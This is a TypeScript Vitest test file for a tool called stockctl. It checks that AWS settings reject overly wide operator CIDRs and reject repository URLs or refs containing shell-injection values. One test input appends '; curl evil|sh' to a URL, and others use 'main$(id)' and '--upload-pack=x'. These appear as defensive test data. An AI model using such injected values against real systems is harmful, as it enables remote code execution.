import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../config/load.js';
import { checkAwsSettings, checkOperatorCidr } from './settings.js';

const aws = (env: Record<string, string>) =>
  loadConfig({ env: { STOCKCTL_AWS_OPERATOR_CIDR: '203.0.113.7/32', STOCKCTL_AWS_KEY_PAIR_NAME: 'ops', STOCKCTL_AWS_REPOSITORY_URL: 'https://git.example/stockctl.git', ...env } });

describe('the AWS settings', () => {
  it('let in one host or a network of at most 256 addresses', () => {
    for (const ok of ['203.0.113.7/32', '198.51.100.0/24', '10.1.2.0/28']) expect(() => checkOperatorCidr(ok)).not.toThrow();
  });

  it('refuse the whole internet in any spelling, wide networks and non-addresses, by the key\'s name', () => {
    for (const bad of ['0.0.0.0/0', '0.0.0.0/1', '128.0.0.0/1', '10.0.0.0/8', '203.0.113.0/23', '0.0.0.0/32', '203.0.113.7', '203.0.113.7/33', '300.1.1.1/32', '::/0', 'me']) {
      expect(() => checkOperatorCidr(bad), bad).toThrow(/config key "aws.operator_cidr"/);
    }
    expect(() => checkOperatorCidr('0.0.0.0/1')).toThrow(/2147483648 addresses; at most a \/24/);
  });

  it('refuse a repository URL or ref that a shell would read as more than a word', () => {
    expect(() => checkAwsSettings(aws({}))).not.toThrow();
    expect(() => checkAwsSettings(aws({ STOCKCTL_AWS_REPOSITORY_URL: 'https://x.example/a.git; curl evil|sh' }))).toThrow(/"aws.repository_url"/);
    expect(() => checkAwsSettings(aws({ STOCKCTL_AWS_REPOSITORY_URL: "https://x.example/a'b.git" }))).toThrow(/"aws.repository_url"/);
    expect(() => checkAwsSettings(aws({ STOCKCTL_AWS_REPOSITORY_REF: 'main$(id)' }))).toThrow(/"aws.repository_ref"/);
    expect(() => checkAwsSettings(aws({ STOCKCTL_AWS_REPOSITORY_REF: '--upload-pack=x' }))).toThrow(/"aws.repository_ref"/);
    expect(() => checkAwsSettings(aws({ STOCKCTL_AWS_OPERATOR_CIDR: '' }))).toThrow('config key "aws.operator_cidr" is required for --target aws');
  });
});
